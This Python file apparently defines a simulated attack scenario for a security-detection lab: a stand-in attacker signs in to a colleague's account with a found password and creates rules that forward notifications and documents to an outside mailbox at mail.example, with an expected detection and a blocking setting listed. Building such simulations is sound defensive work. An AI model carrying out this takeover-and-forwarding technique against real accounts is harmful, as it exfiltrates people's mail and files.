"""A rule that forwards: whoever took an account lets its mail and an export leave the organization."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from functools import partial

from sandbox.lab.scenarios.parts import cast, stranger, who
from sandbox.lab.scenarios.plot import Scenario, Step
from sandbox.lab.scenarios.prevented import Prevented
from sandbox.lab.scenarios.stage import Stage
from sandbox.resources.forwarding_rules import service as forwarding_rules


def get_in(stage: Stage) -> Iterator[timedelta]:
    """Sign in with a password that was found elsewhere."""
    victim = cast(stage, "victim", partial(stage.cast.colleague, with_factor=False))
    attacker = stranger(stage, "attacker", victim)
    attacker.sign_in(victim.email)
    stage.involve("session", attacker.session_id, "attacker")
    yield stage.between(60, 240)


def forward(stage: Stage) -> Iterator[timedelta]:
    """Forward notifications and documents to a mailbox outside."""
    attacker = stage.visitor("attacker")
    mailbox = f"{who(stage, 'victim').email.partition('@')[0]}.archive@mail.example"
    made = 0
    for number, content in enumerate(("notifications", "documents")):
        address = f"{number}.{mailbox}"
        try:
            attacker.do(partial(forwarding_rules.create, address=address, content=content))
        except Prevented as refusal:
            if refusal.reason == "session_ended":
                raise
            continue
        made += 1
        yield stage.between(20, 90)
    if not made:
        raise Prevented("forbidden_by_setting")


SCENARIO = Scenario(
    id="forwarding_rule",
    title="A taken account forwards to the outside",
    description="After a sign-in from a new place, rules send what the person gets to a mailbox outside the organization.",
    steps=(
        Step("sign in with a found password", get_in, "T1078.004"),
        Step("forward to the outside", forward, "T1114.003"),
    ),
    expected_detections=("forwarding_to_outside",),
    prevented_by={"data.auto_forward_external": True},
)
